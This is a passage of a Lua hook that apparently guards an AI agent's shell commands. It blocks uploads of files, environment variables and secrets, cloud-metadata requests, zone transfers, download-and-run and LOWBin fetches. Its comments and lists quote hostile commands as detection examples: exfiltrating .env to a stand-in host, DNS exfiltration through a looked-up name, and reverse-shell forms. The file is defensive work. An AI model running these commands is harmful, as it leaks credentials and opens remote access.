-- network: lets the agent read the web; stops uploads of local files and data, the environment and secrets, and cloud metadata
--
-- What it stops (each reason names its rule):
--   - upload: a command sending local files or data to a host that is
--     not in SETTINGS.upload_hosts: curl -T/--upload-file, -F/--form with
--     @file or <file, -d/--data*/--json @file or @- (stdin), wget
--     --post-file/--body-file, httpie/xh items field@file, field=@file,
--     field:=@file, or its stdin; data the line does not show (a $VAR or
--     $(…) in -d, --post-data, …, or -d @- on an input the line does not
--     feed: $(curl -d @- …), <(curl -d @- …)); scp/rsync of a local path to a
--     remote, sftp -b, ssh, nc/socat/openssl s_client fed a pipe or a file (tar … | ssh …,
--     nc host port < file, … | curl -T -);
--   - computed-url: a URL holding a command's output or piped items
--     (curl https://x/?d=$(cat .env), … | xargs -I{} curl …/{}), or a
--     name looked up that holds one (dig $(whoami).x.example): data
--     leaves in the URL or the name itself (a $VAR in a URL passes);
--   - delete: -X DELETE (curl, wget --method, httpie) to a host that is
--     not in upload_hosts (or that the line does not show), or to a data
--     store's or cluster's HTTP API on
--     any host (Elasticsearch :9200, CouchDB :5984, Docker :2375,
--     Meilisearch :7700, …; httpie's :9200/x is localhost); a POST, PUT
--     or PATCH to any host whose path names a deletion (_delete_by_query,
--     doDelete, delete-batch, purge, truncate) or Elasticsearch's _close;
--     a GraphQL mutation written out in the body whose field deletes
--     (mutation { deleteEntity(…) }, removeMember, purgeCache), to any
--     host;
--   - cluster-admin (asked, SETTINGS.cluster_admin): a PUT, POST or
--     PATCH, with a body or none, to an admin endpoint that changes a whole
--     cluster, on any host: Elasticsearch's and OpenSearch's
--     _cluster/settings, _cluster/reroute, _nodes/…/_shutdown, _security
--     users, roles and keys; CouchDB's _config; Vault's sys/seal,
--     sys/step-down, sys/rotate; Consul's agent/leave, operator/raft;
--   - zone-transfer: a DNS zone transfer (dig axfr, dig … ixfr=N, dig -t
--     axfr, host -l, host -t axfr, drill axfr, nslookup -type=axfr): the
--     whole list of a domain's names, a reconnaissance step;
--   - socket: nc/ncat/netcat/socat/telnet connecting to a host that is
--     not in upload_hosts (a raw connection carries anything; nc -z,
--     a port probe, passes);
--   - metadata: the cloud metadata endpoints (169.254.169.254 in any
--     spelling, metadata.google.internal, 100.100.100.200, fd00:ec2::254,
--     all of 169.254.0.0/16): they hand out the machine's credentials;
--     also named by an interpreter's one-liner, in a URL or a quoted host
--     (python -c "…urlopen('http://169.254.169.254/…')");
--   - raw-ip: a connection to a public IP address written as a number
--     (private, loopback and link-local networks are not public);
--   - environment: the environment (env, printenv, set, export -p,
--     /proc/*/environ) piped or substituted into a network command or a
--     mailer (mail, sendmail, mutt, …), wherever it goes, or sent whole by
--     an interpreter's one-liner (os.environ, process.env, ENV.to_h, %ENV
--     with a URL, a request or a socket);
--   - secret-file: a secrets file (lib/secrets.lua's list: .env, keys,
--     ~/.aws/credentials, …) piped, redirected or named as data into a
--     network command, wherever it goes;
--   - download-run: a file a fetcher saves (curl -o F / --output F / -O,
--     the URL's last segment; wget -O F or the URL's last segment; aria2c
--     -o F; Invoke-WebRequest -OutFile F) and a later command of the same
--     line runs (sh F, bash F, . F, source F, ./F, python F, perl F, node
--     F, java -jar F; a bare name when it was saved in /usr/local/bin or
--     another folder on the usual PATH; in PowerShell .\F, & F,
--     Start-Process F, powershell -File F): running a download as a
--     script, as curl … | sh is (lib fetchers reads both). Downloading
--     alone, or running a file the line did not save, passes;
--   - remote-code: Windows' own programs fetching code or files, or
--     running script from a URL or written inline (the attack
--     catalogues' LOLBins): certutil -urlcache/-verifyctl, bitsadmin
--     /transfer|/addfile|/create, mshta or rundll32 of a URL or of
--     javascript:/vbscript:, regsvr32 /i:URL scrobj.dll, msiexec, hh or
--     cmstp of a URL, wmic /format:URL, a program started through WMI
--     (wmic process call create, Invoke-WmiMethod -Class Win32_Process
--     -Name Create), also run by cmd /c (certutil
--     -hashfile, bitsadmin /list, msiexec /i .\x.msi pass);
--   - serve: a static file server (python -m http.server, php -S, ruby
--     -run -e httpd, busybox httpd, http-server, serve, live-server,
--     caddy file-server, darkhttpd, updog) whose folder is the whole disk,
--     the home folder or one that holds it, a system folder (/etc, /var,
--     /root, …) or a folder of keys (~/.ssh): whoever reaches its port
--     reads every file in it (the folder it is given, or the one a cd on
--     the line moved to); the project's folders pass;
--   - allowed-hosts and unreadable-host, only with fetch = "allowed": a
--     connection to a host outside SETTINGS.allowed_hosts, or to one the
--     line does not show ($URL, $(…)).
-- Reading passes: GET and HEAD (curl, wget, httpie, aria2c), web-fetch
-- tools (@network: WebFetch, web_fetch, …), git clone, scp/rsync from a
-- remote to here, ssh running a command; so do uploads to upload_hosts
-- (a local server under test). Reverse shells (nc -e, bash -i >&
-- /dev/tcp/…, socat exec:, interpreter socket one-liners) are the system
-- pack's to stop.
-- Why: what leaves the machine cannot be taken back; the environment
-- and secrets files hold tokens; the metadata endpoint hands out the
-- machine's cloud credentials.
--
-- Set them in the config's [packs.network] table, over the defaults below.
-- Settings (SETTINGS below):
--   fetch          "any": reading from any host passes (the default);
--                  "allowed": every connection must go to allowed_hosts
--   allowed_hosts  hosts the agent may reach with fetch = "allowed";
--                  "*.example.com" also matches its subdomains (package
--                  registries, GitHub, documentation sites, localhost)
--   upload_hosts   hosts the agent may send files or data to, open raw
--                  connections to and DELETE on ({ localhost })
--   data_ports     ports of data stores' and clusters' HTTP APIs, where
--                  DELETE is refused even on upload_hosts
--   download_run   "deny" (the default), "ask" or "allow": a download the
--                  same line then runs (download-run)
--   cluster_admin  "ask" (the default), "deny" or "allow": a write to a
--                  data store's or cluster's admin endpoint (cluster-admin)
--
-- What it cannot know: where a program other than the ones above
-- connects (a script, a package manager's own downloads, git remotes and
-- git push), a host hidden behind a redirect or a variable set outside
-- the line, what a URL's DNS name resolves to (a name pointing at
-- 169.254.169.254), or what a POST with data written out on the line
-- does at the other end.

local shell = require("shell")
local pwsh = require("pwsh")
local secrets = require("secrets")
local paths = require("paths")

local SETTINGS = hook.settings("network", {
  fetch = "any",
  allowed_hosts = { "localhost", "127.0.0.1", "::1", "github.com", "*.github.com", "raw.githubusercontent.com",
    "objects.githubusercontent.com", "registry.npmjs.org", "pypi.org", "files.pythonhosted.org",
    "proxy.golang.org", "sum.golang.org", "pkg.go.dev", "go.dev", "crates.io", "static.crates.io",
    "docs.rs", "developer.mozilla.org", "docs.python.org", "stackoverflow.com" },
  upload_hosts = { "localhost", "127.0.0.1", "::1" },
  data_ports = { 9200, 9300, 5984, 8500, 2379, 8200, 15672, 8086, 6333, 8983, 7474, 8091, 2375, 2376, 10250, 6443,
    8001, 9000, 9090, 4001, 8529, 7700, 8108 },
  download_run = "deny",
  cluster_admin = "ask",
})

local DATA_PORTS = {}
for _, p in ipairs(SETTINGS.data_ports) do DATA_PORTS[tostring(p)] = true end

local SECRETS = secrets.matcher()

local function host_in(host, list)
  host = host:lower()
  for _, h in ipairs(list) do
    if h == host or (h:sub(1, 2) == "*." and (host:sub(-(#h - 1)) == h:sub(2) or host == h:sub(3))) then
      return true
    end
  end
  return false
end

-- split_url returns the host and the port of a URL or of a bare
-- "host[:port][/path]" (port nil when none is written), "" for a host
-- holding an unknown part, nil when the text is neither.
local function split_url(text, bare)
  local rest = text:match("^[%a][%w+.-]*://(.*)$")
  if not rest then
    if not bare then return nil end
    rest = text
    -- httpie's and xh's shorthand for the machine itself: :9200/x, :/x
    if rest:find("^:%d*/?") and not rest:find("^::") then rest = "localhost" .. rest end
  end
  local auth = rest:match("^([^/?#]*)")
  auth = auth:gsub("^.*@", "")
  local host, port = auth:match("^%[([^%]]*)%]:?(%d*)")
  if not host then host, port = auth:match("^([^:]*):?(.*)$") end
  if host:find("%z") then return "" end
  if host == "" then return nil end
  if port == "" or not port:find("^%d+$") then port = nil end
  return host:lower(), port
end

local function host_of(text, bare)
  return (split_url(text, bare))
end

local function looks_like_host(t)
  return t:find("^[%w.-]+%.%a%a+:?%d*/?") ~= nil or t:find("^localhost[:/]?") ~= nil or t:find("^:%d+/?") ~= nil
    or t:find("^%d+%.%d+%.%d+%.%d+") ~= nil
end

-- ipv4 reads a host written as an IPv4 address the way inet_aton does
-- (1 to 4 parts, each decimal, 0x hex or 0-led octal: 2852039166,
-- 0xa9fea9fe and 0251.0376.0251.0376 are all 169.254.169.254) and
-- returns its four bytes, or nil.
local function ipv4(h)
  local parts = {}
  for p in (h .. "."):gmatch("([^.]*)%.") do
    local v
    if p:find("^0[xX]%x+$") then
      v = tonumber(p:sub(3), 16)
    elseif p:find("^0[0-7]+$") then
      v = tonumber(p, 8)
    elseif p:find("^%d+$") then
      v = tonumber(p, 10)
    end
    if not v or #p > 12 then return nil end
    parts[#parts + 1] = v
    if #parts > 4 then return nil end
  end
  local n = #parts
  if n == 0 then return nil end
  local b = {}
  for k = 1, n - 1 do
    if parts[k] > 255 then return nil end
    b[k] = parts[k]
  end
  local last, room = parts[n], 5 - n -- the last part fills the bytes left
  if last >= 256 ^ room then return nil end
  for k = 4, n, -1 do
    b[k] = last % 256
    last = math.floor(last / 256)
  end
  return b
end

-- METADATA are the cloud metadata endpoints by name and the IPv6 ones.
local METADATA = { ["metadata.google.internal"] = true, ["metadata.goog"] = true, ["metadata"] = true,
  ["instance-data"] = true, ["instance-data.ec2.internal"] = true, ["fd00:ec2::254"] = true,
  ["metadata.azure.internal"] = true }

-- kind classifies a host: "metadata", "public-ip" (an IP address outside
-- the private, loopback and link-local networks), "local" (the machine or
-- a private network written as an address) or "name".
local function kind(h)
  h = h:gsub("%.$", "")
  if METADATA[h] then return "metadata" end
  local b = ipv4(h)
  if b then
    if b[1] == 169 and b[2] == 254 then return "metadata" end
    if b[1] == 100 and b[2] == 100 and b[3] == 100 and b[4] == 200 then return "metadata" end
    if b[1] == 127 or b[1] == 10 or b[1] == 0 or (b[1] == 172 and b[2] >= 16 and b[2] < 32)
      or (b[1] == 192 and b[2] == 168) then
      return "local"
    end
    return "public-ip"
  end
  if h:find(":") and h:find("^[%x:.]+$") then
    if h == "::1" or h == "::" or h:find("^f[cd]") or h:find("^fe[89ab]") then return "local" end
    return "public-ip"
  end
  return "name"
end

local FETCHERS = { curl = true, wget = true, http = true, https = true, xh = true, xhs = true, aria2c = true,
  ["lwp-request"] = true, httpie = true }
-- SAVERS are the programs whose saved files download-run follows:
-- curl, wget, aria2c and PowerShell's Invoke-WebRequest / Invoke-RestMethod
-- (-OutFile).
local SAVERS = { curl = true, wget = true, aria2c = true, ["invoke-webrequest"] = true, iwr = true,
  ["invoke-restmethod"] = true, irm = true }
local HTTPIE = { http = true, https = true, xh = true, xhs = true, httpie = true }
local SOCKETS = { nc = true, ncat = true, netcat = true, socat = true, telnet = true }
local REMOTES = { ssh = true, scp = true, sftp = true, rsync = true }
-- PROBES only resolve or reach a name: data leaves in the name itself.
local PROBES = { dig = true, nslookup = true, host = true, drill = true, ping = true, ping6 = true }

-- Options whose value is not the URL (so a bare word after them is not a host).
local VALUE_OPTS = {}
for o in ([[-o --output -T --upload-file -d --data --data-binary --data-raw --data-urlencode --data-ascii --json -F
  --form --form-string -K --config -c --cookie-jar -b --cookie -D --dump-header -E --cert --key --cacert -H --header
  -u --user -A --user-agent -e --referer -X --request -w --write-out -m --max-time --connect-timeout -x --proxy -r
  --range -O --output-document -P --directory-prefix --post-file --post-data --body-file --body-data -U --header -i
  --input-file -a --append-output --retry --limit-rate --method --resolve --connect-to -t --tries]]):gmatch("%S+") do
  VALUE_OPTS[o] = true
end
VALUE_OPTS["-O"] = nil -- curl's -O takes none; wget's takes one: a host after it is still checked
-- Which options take the next word as their value: each program's own
-- (curl's and wget's short options differ), so that a flag before the URL
-- never hides it (lib fetchers).
local fetchers = require("fetchers")
local takes_value = fetchers.value_taker(VALUE_OPTS)

-- DATA_OPTS carry data the command sends; FILE_OPTS a file it sends.
local DATA_OPTS = { ["-d"] = true, ["--data"] = true, ["--data-binary"] = true, ["--data-raw"] = true,
  ["--data-urlencode"] = true, ["--data-ascii"] = true, ["--json"] = true, ["-F"] = true, ["--form"] = true,
  ["--form-string"] = true, ["--post-data"] = true, ["--body-data"] = true }
local FILE_OPTS = { ["-T"] = true, ["--upload-file"] = true, ["--post-file"] = true, ["--body-file"] = true }
-- FILE_DATA: the data options that read a file, and how their value
-- names it: curl's -d @file (- for stdin), --data-urlencode @file or
-- name@file; -F name=@file or name=<file is read apart. --data-raw,
-- --form-string, wget's --post-data never read one.
local FILE_DATA = { ["-d"] = "^@(.*)$", ["--data"] = "^@(.*)$", ["--data-binary"] = "^@(.*)$",
  ["--data-ascii"] = "^@(.*)$", ["--json"] = "^@(.*)$", ["--data-urlencode"] = "^[^=@]*@(.*)$" }

-- computed reports whether a word holds a command's output or items
-- piped to xargs (a variable is not that).
local function computed(w)
  return w.unknown and (w.source == "subst" or w.source == "proc" or w.source == "stdin" or w.source == "overflow")
end

-- stdin describes what a command reads on its input when that is local
-- data: a file (< f), or a pipe from a command whose output the line does
-- not show; nil for none, or for text written out on the line (echo '{}' |
-- http POST …, a here-document).
local function stdin(c)
  for _, r in ipairs(c.redirs) do
    if r.op == "<" then return "a local file (" .. r.target.text .. ")" end
  end
  if c.pipe_in and not (c.upstream and shell.output(c.upstream)) then return "its input (a pipe)" end
  return nil
end

-- inherited describes the input a command reads when the line gives it
-- none (no pipe, no < or here-document): the shell's own, which the line
-- does not show (curl -d @- inside $(…) or <(…) sends what the session's
-- shell holds on its input); nil when the line feeds it.
local function inherited(c)
  if c.pipe_in then return nil end
  for _, r in ipairs(c.redirs) do
    if r.op == "<" or r.op == "<<" or r.op == "<<-" or r.op == "<<<" or r.op == "<>" then return nil end
  end
  return "what it reads on an input the line does not show (@-)"
end

-- option_value splits an option word: "-dX" -> "-d", "X"; "--data=X" ->
-- "--data", "X"; a cluster of curl's short flags ends at the first one
-- that takes a value: "-sd" -> "-d", nil (its value is the next word),
-- "-sXPOST" -> "-X", "POST"; other words -> the word, nil.
local CURL_SHORT = fetchers.SHORT_VALUE.curl
local function option_value(t, n)
  local long, v = t:match("^(%-%-[%w-]+)=(.*)$")
  if long then return long, v end
  local short, rest = t:match("^(%-[dFTXHo])(.+)$")
  if short then return short, rest end
  if n == "curl" and t:find("^%-%a%a") then
    for i = 2, #t do
      local o = "-" .. t:sub(i, i)
      if CURL_SHORT[o] then
        if i == #t then return o, nil end
        return o, t:sub(i + 1)
      end
    end
  end
  return t, nil
end

-- HTTP_METHODS are the methods httpie and xh take as their first word, in
-- any case (xh post :3000/x).
local HTTP_METHODS = { GET = true, HEAD = true, POST = true, PUT = true, PATCH = true, DELETE = true, OPTIONS = true,
  TRACE = true, CONNECT = true }

-- fetcher reads a curl/wget/httpie/… command: its URLs' words, what it
-- uploads (a short description) and its method.
local function fetcher(c)
  local out = { urls = {}, upload = nil, method = nil, files = {}, bodies = {} }
  local n = c.name
  local args = c.args
  local k = 1
  local httpie_method_seen = false
  while k <= #args do
    local a = args[k]
    local t = a.text
    if t:sub(1, 1) == "-" and not a.whole then
      local opt, v = option_value(t, n)
      local vw = nil -- the value's word, when it is the next word
      if v == nil and takes_value(n, opt) then
        vw = args[k + 1]
        v = vw and vw.text
        k = k + 1
      end
      if v then
        local unknown = vw and vw.unknown or (not vw and a.unknown)
        if FILE_OPTS[opt] then
          if v == "-" then
            out.upload = out.upload or stdin(c)
          else
            out.upload = out.upload or ("a local file (" .. v .. ")")
            out.files[#out.files + 1] = v
          end
        elseif DATA_OPTS[opt] then
          out.sent = true
          if not unknown and #out.bodies < 16 then out.bodies[#out.bodies + 1] = v end
          local file = FILE_DATA[opt] and v:match(FILE_DATA[opt])
          if not file and (opt == "-F" or opt == "--form") then file = v:match("^[^=]*=[@<]([^;]*)") end
          if file == "-" then
            out.upload = out.upload or stdin(c) or inherited(c)
          elseif file then
            out.upload = out.upload or ("a local file (" .. file .. ")")
            out.files[#out.files + 1] = file
          elseif unknown then
            out.upload = out.upload or "data the command line does not show ($VAR, $(…))"
          end
        elseif opt == "-X" or opt == "--request" or opt == "--method" then
          out.method = v:upper()
        end
      end
    else
      if HTTPIE[n] then
        if not httpie_method_seen and #out.urls == 0 and (HTTP_METHODS[t:upper()] or t:find("^%u+$")) then
          out.method = t:upper()
          httpie_method_seen = true
        elseif #out.urls > 0 and (t:find("^[%w_.%-%[%]]+:?=?@") or t:find("^@")) then
          local file = t:match("@(.*)$")
          out.upload = out.upload or ("a local file (" .. file .. ")")
          out.files[#out.files + 1] = file
        elseif #out.urls > 0 and a.unknown and t:find("^[%w_.%-%[%]]+:?=") then
          out.upload = out.upload or "data the command line does not show ($VAR, $(…))"
        elseif #out.urls > 0 and t:find("^[%w_.%-%[%]]+:?=") then
          out.sent = true
          if #out.bodies < 16 then out.bodies[#out.bodies + 1] = t end
        elseif #out.urls == 0 or (t:find("://") or looks_like_host(t)) then
          out.urls[#out.urls + 1] = a
        end
      else
        out.urls[#out.urls + 1] = a
      end
    end
    k = k + 1
  end
  if HTTPIE[n] then out.upload = out.upload or stdin(c) end
  return out
end

-- remote_target returns the host of an scp/rsync/sftp operand
-- ("user@host:path", "host:path", "host::module", "rsync://host/x"), or
-- nil for a local path.
local function remote_target(t)
  if t:find("^%a[%w+.-]*://") then return host_of(t, false) end
  if t:find("^/") or t:find("^%.") or t:find("^~") then return nil end
  return (t:match("^[^/:]*@([^:/]+):") or t:match("^([%w.%-_]+):") or t:match("^%[([%x:]+)%]:"))
end

-- remote reads an ssh/scp/sftp/rsync command: the hosts it reaches and
-- what it uploads.
local function remote(c)
  local n = c.name
  local hosts, upload = {}, nil
  local ops = {}
  local skip = false
  for _, a in ipairs(c.args) do
    local t = a.text
    if skip then
      skip = false
    elseif t:sub(1, 1) == "-" and not a.whole then
      -- options whose value is the next word
      local takes = n == "ssh" and "^%-[BbcDEeFIiJLlmOoPpQRSWw]$" or n == "scp" and "^%-[cDFiJlloPS]$"
        or n == "sftp" and "^%-[BbcDFiJloPRSs]$"
      if takes and t:find(takes) then skip = true end
      if n == "rsync" and (t == "-e" or t == "--rsh" or t == "-f" or t == "--filter" or t == "--exclude"
        or t == "--include" or t == "--exclude-from" or t == "--include-from" or t == "-T" or t == "--temp-dir") then
        skip = true
      end
      if n == "sftp" and t:find("^%-b") then upload = "the files of a batch (sftp -b)" end
    else
      ops[#ops + 1] = a
    end
  end
  if n == "ssh" then
    local h = ops[1] and (ops[1].whole and "" or ops[1].text:match("@([^@]+)$") or ops[1].text)
    if h then hosts[1] = h:gsub("^%[(.*)%]$", "%1"):lower() end
    return hosts, stdin(c), {}
  end
  if n == "sftp" then
    local h = ops[1] and (ops[1].whole and "" or remote_target(ops[1].text) or ops[1].text:match("@([^@:]+)$")
      or ops[1].text)
    if h then hosts[1] = h:lower() end
    local fed = c.pipe_in
    for _, r in ipairs(c.redirs) do
      if r.op == "<" or r.op == "<<" or r.op == "<<<" then fed = true end
    end
    if fed then upload = upload or "the files its commands name (sftp fed commands)" end
    return hosts, upload, {}
  end
  -- scp, rsync: the last operand is the destination
  local sources = {}
  if #ops < 2 then return hosts, upload, sources end
  local dest = ops[#ops]
  local dh = dest.whole and "" or remote_target(dest.text)
  for k = 1, #ops - 1 do
    local h = ops[k].whole and "" or remote_target(ops[k].text)
    if h then hosts[#hosts + 1] = h:lower() end
  end
  if dh then
    hosts[#hosts + 1] = dh:lower()
    for k = 1, #ops - 1 do
      if not (ops[k].whole or remote_target(ops[k].text)) then
        upload = upload or ("the local path " .. ops[k].text)
        sources[#sources + 1] = ops[k]
      end
    end
  end
  return hosts, upload, sources
end

-- socket reads an nc/ncat/socat/telnet command: its host, whether it only
-- probes a port (nc -z) and whether it is fed data.
local function socket(c)
  local n = c.name
  local host, probe = nil, false
  for _, a in ipairs(c.args) do
    local t = a.text
    if t:sub(1, 1) == "-" and not a.whole then
      if t:find("^%-[%a]*z") then probe = true end
    elseif not host and not t:find("^%d+$") then
      if n == "socat" then
        local l = t:lower()
        local addr = l:match("^tcp%d?:(.*)$") or l:match("^tcp%d?%-connect:(.*)$") or l:match("^udp%d?:(.*)$")
          or l:match("^udp%d?%-connect:(.*)$") or l:match("^openssl:(.*)$") or l:match("^ssl:(.*)$")
          or l:match("^openssl%-connect:(.*)$")
        if addr then
          host = (a.unknown or addr:find("%z")) and "" or addr:match("^%[([^%]]*)%]") or addr:match("^([^:,]*)")
        end
      else
        host = a.whole and "" or host_of(t, true) or ""
      end
    end
  end
  local fed = stdin(c)
  if n == "socat" then
    for _, a in ipairs(c.args) do
      local l = a.text:lower()
      if l:find("^file:") or l:find("^open:") or l:find("^gopen:") or l:find("^create:") then
        fed = fed or ("a local file (" .. a.text:gsub("^[^:]*:", ""):gsub(",.*$", "") .. ")")
      end
    end
  end
  return host, probe, fed
end

local ENV_DUMPERS = { env = true, printenv = true, set = true, declare = true, compgen = true }

-- environment reports whether a command's output is the environment.
local function environment(c)
  if not c then return false end
  local n = c.name
  if ENV_DUMPERS[n] and (#c.args == 0 or n == "printenv" or (n == "declare" and c.args[1].text == "-x")) then
    return true
  end
  if n == "export" and (#c.args == 0 or c.args[1].text == "-p") then return true end
  for _, a in ipairs(c.args) do
    if a.text:find("^/proc/[%w]+/environ$") then return true end
  end
  for _, r in ipairs(c.redirs) do
    if r.op == "<" and r.target.text:find("^/proc/[%w]+/environ$") then return true end
  end
  return false
end

local function network_cmd(c)
  local n = c.name or ""
  return FETCHERS[n] or SOCKETS[n] or REMOTES[n] or PROBES[n] or (n == "openssl" and c.args[1] ~= nil
    and c.args[1].text == "s_client")
end

local function ships_environment(c)
  local up = c.upstream
  while up do
    if environment(up) then return true end
    up = up.upstream
  end
  for _, a in ipairs(c.args) do
    if a.text:find("/proc/[%w]+/environ") then return true end
    local hit = false
    shell.producers(a, function(p) hit = hit or environment(p) end)
    if hit then return true end
  end
  for _, r in ipairs(c.redirs) do
    if r.target.text:find("^/proc/[%w]+/environ$") then return true end
  end
  return false
end

-- sends_secret returns the secrets file a network command c sends: one
-- named by a command piped into it or whose output a word of it holds
-- (cat .env | curl …, curl -d "$(cat .env)"), one it reads from a <
-- redirection, or one of data, the files it sends (@.env, scp
-- ~/.ssh/id_rsa host:); nil if none. A file c only uses (ssh -i key,
-- curl --cert x.pem) is not sent.
local function sends_secret(c, data)
  local function named(cmd)
    for _, a in ipairs(cmd.args) do
      local hit = SECRETS.file(a)
      if hit then return hit end
    end
    for _, r in ipairs(cmd.redirs) do
      if r.op == "<" then
        local hit = SECRETS.file(r.target)
        if hit then return hit end
      end
    end
    return nil
  end
  local up = c.upstream
  while up do
    local hit = named(up)
    if hit then return hit end
    up = up.upstream
  end
  for _, r in ipairs(c.redirs) do
    if r.op == "<" then
      local hit = SECRETS.file(r.target)
      if hit then return hit end
    end
  end
  for _, d in ipairs(data) do
    local hit = SECRETS.file(type(d) == "table" and d or secrets.path_word(d))
    if hit then return hit end
  end
  local hit
  for _, a in ipairs(c.args) do
    shell.producers(a, function(p) hit = hit or named(p) end)
    if hit then return hit end
  end
  return nil
end

local function deny(rule, why, instead)
  return hook.deny("network pack: blocked " .. why .. " [rule " .. rule .. "]; " .. instead .. ".")
end

-- as_set answers as a rule's setting says: asks the user ("ask") or denies.
local function as_set(setting, rule, why, instead)
  if setting == "ask" then
    return hook.ask("network pack: asking about " .. why .. " [rule " .. rule .. "]; " .. instead .. ".")
  end
  return deny(rule, why, instead)
end

local function p(s) return shell.printable(s) end

-- judge_host answers a connection to host h: nil when it may go ahead.
local function judge_host(h)
  if h == "" then
    if SETTINGS.fetch == "allowed" then
      return deny("unreadable-host", "a connection to a host that cannot be read before the command runs",
        "write the URL out in full")
    end
    return nil
  end
  local k = kind(h)
  if k == "metadata" then
    return deny("metadata", "a request to the cloud metadata endpoint " .. p(h) ..
      ", which hands out the machine's credentials", "do not read instance metadata; ask the user for what you need")
  end
  if SETTINGS.fetch == "allowed" then
    if not host_in(h, SETTINGS.allowed_hosts) then
      return deny("allowed-hosts", "a connection to " .. p(h) .. ", which is not an allowed host",
        "use an allowed host, or ask the user to add " .. p(h) .. " to allowed_hosts in network.lua")
    end
  elseif k == "public-ip" and not host_in(h, SETTINGS.upload_hosts) then
    return deny("raw-ip", "a connection to the bare IP address " .. p(h),
      "use the host's name, or ask the user to fetch it")
  end
  return nil
end

local function judge_upload(h, what)
  if h ~= "" and host_in(h, SETTINGS.upload_hosts) then return nil end
  return deny("upload", "uploading " .. p(what) .. " to " .. (h == "" and "a host the line does not show" or p(h)),
    "ask the user to upload it, or to add the host to upload_hosts in network.lua")
end

local function no_env_no_secret(c, data)
  if ships_environment(c) then
    return deny("environment", "sending the environment (env, printenv) over the network",
      "never send environment variables; they hold tokens")
  end
  local hit = sends_secret(c, data)
  if hit then
    return deny("secret-file", "sending " .. p(hit) .. ", which may hold secrets, over the network",
      "ask the user for what you need instead")
  end
  return nil
end

local NO_DATA = {}

-- deleting_endpoint returns the method of a request that changes data
-- (POST, PUT, PATCH; data sent without -X is a POST) to a URL whose path
-- names a deletion (_delete_by_query, doDelete, delete-batch,
-- delete_series, purge, truncate) or Elasticsearch's _close, on any host:
-- the verb is in the path, not the method; nil otherwise.
local WRITES = { POST = true, PUT = true, PATCH = true }
local function deleting_endpoint(w, f)
  local method = f.method or (f.sent and "POST") or "GET"
  if not WRITES[method] or w.unknown then return nil end
  local path = w.text:gsub("^[%a][%w+.-]*://", ""):match("^[^/?#]*(/[^?#]*)")
  if not path then return nil end
  path = path:lower()
  for seg in path:gmatch("[^/]+") do
    if seg:find("delete", 1, true) or seg:find("destroy", 1, true) or seg:find("purge", 1, true) or
      seg:find("truncate", 1, true) or seg == "_close" or seg == "wipe" or seg == "drop" then
      return method
    end
  end
  return nil
end

-- ADMIN are the paths of data stores' and clusters' HTTP APIs that change
-- the whole cluster (its settings, its members, its seal): a path whose
-- segments, lower-cased, hold one of these runs of segments, "*" standing
-- for any one.
local ADMIN = { { "_cluster", "settings" }, { "_cluster", "reroute" }, { "_cluster", "voting_config_exclusions" },
  { "_nodes", "*", "_shutdown" }, { "_nodes", "_shutdown" }, { "_shutdown" }, { "_nodes", "reload_secure_settings" },
  { "_nodes", "*", "reload_secure_settings" }, { "_config" }, { "_node", "*", "_config" }, { "sys", "seal" },
  { "sys", "step-down" }, { "sys", "rotate" }, { "agent", "leave" }, { "agent", "force-leave" },
  { "operator", "raft" }, { "operator", "autopilot" }, { "_security", "user" }, { "_security", "role" },
  { "_security", "role_mapping" }, { "_security", "api_key" } }

-- admin_endpoint returns the method of a request that changes data (PUT,
-- POST, PATCH; data sent without -X is a POST) to a path of ADMIN, on any
-- host, with or without a body (the body, not the path, says what
-- changes; none is an empty change); nil otherwise.
local function admin_endpoint(w, f)
  local method = f.method or (f.sent and "POST") or "GET"
  if not WRITES[method] or w.unknown then return nil end
  local path = w.text:gsub("^[%a][%w+.-]*://", ""):match("^[^/?#]*(/[^?#]*)")
  if not path then return nil end
  local segs = {}
  for seg in path:lower():gmatch("[^/]+") do
    segs[#segs + 1] = seg
    if #segs > 32 then break end
  end
  for i = 1, #segs do
    for _, run in ipairs(ADMIN) do
      local hit = true
      for k, want in ipairs(run) do
        local got = segs[i + k - 1]
        if not got or (want ~= "*" and got ~= want) then hit = false; break end
      end
      if hit then return method end
    end
  end
  return nil
end

-- GQL_VERBS are the first words of a GraphQL mutation's field that
-- deletes (deleteEntity, destroy_user, purgeCache, removeMember).
local GQL_VERBS = { delete = true, destroy = true, purge = true, remove = true, drop = true, truncate = true,
  wipe = true, erase = true }

-- graphql_delete returns the field of a GraphQL mutation written out in
-- a request's body that deletes (mutation { deleteEntity(guid: "x") }),
-- or nil.
local function graphql_delete(bodies)
  for _, b in ipairs(bodies) do
    local at = b:find("mutation", 1, true)
    if at then
      for field in b:sub(at):gmatch("[{,%s]([%a_][%w_]*)%s*[%(%{]") do
        local first = field:gsub("(%l)(%u)", "%1_%2"):lower():match("^_*(%a+)")
        if first and GQL_VERBS[first] then return field end
      end
    end
  end
  return nil
end

-- zone_transfer reports a DNS lookup that asks for a whole zone (dig axfr
-- / ixfr=N / -t axfr, host -l / -t axfr, drill axfr, nslookup
-- -type=axfr): every name of the domain, a map for an attack.
local function zone_transfer(c)
  local n = c.name
  local prev = nil
  for _, a in ipairs(c.args) do
    local t = a.text:lower()
    if t == "axfr" or t:find("^ixfr") or t == "-taxfr" or t:find("^%-t?ixfr") or t:find("^%-%-?%a*=axfr$")
      or t:find("^%-%-?%a*=ixfr") or ((prev == "-t" or prev == "-q" or prev == "-type") and (t == "axfr" or t == "ixfr")) then
      if n ~= "ping" and n ~= "ping6" then return true end
    end
    if n == "host" and t:find("^%-%a*l") then return true end
    prev = t
  end
  return false
end

-- tls_client reads an openssl s_client command: its host ("" when the
-- line does not show it; nil when it is not s_client) and what it is fed,
-- if anything but nothing (< /dev/null).
local function tls_client(c)
  local ws = c.args
  if not (ws[1] and ws[1].text == "s_client") then return nil end
  local host
  for k = 2, #ws do
    local a, t = ws[k], ws[k].text
    local v
    if t == "-connect" and ws[k + 1] then
      v = ws[k + 1]
    elseif t:find("^%-connect=") then
      v = { text = t:sub(10), unknown = a.unknown }
    elseif t == "-host" and ws[k + 1] then
      v = ws[k + 1]
    elseif t:sub(1, 1) ~= "-" and t:find(":%d+$") and not (ws[k - 1].text:find("^%-") and k > 2
      and ws[k - 1].text ~= "-quiet") then
      v = a -- OpenSSL 3: the host:port operand
    end
    if v and not host then
      host = v.whole and "" or host_of(v.text, true) or ""
      if v.unknown and host ~= "" and host:find("%z") then host = "" end
    end
  end
  if not host then host = "localhost" end -- s_client's default
  local fed = stdin(c)
  for _, r in ipairs(c.redirs) do
    if r.op == "<" and r.target.text == "/dev/null" then fed = nil end
  end
  return host, fed
end

-- judge reads one parsed command: nil when it may run.
local function judge(c)
  local n = c.name
  if n == nil then
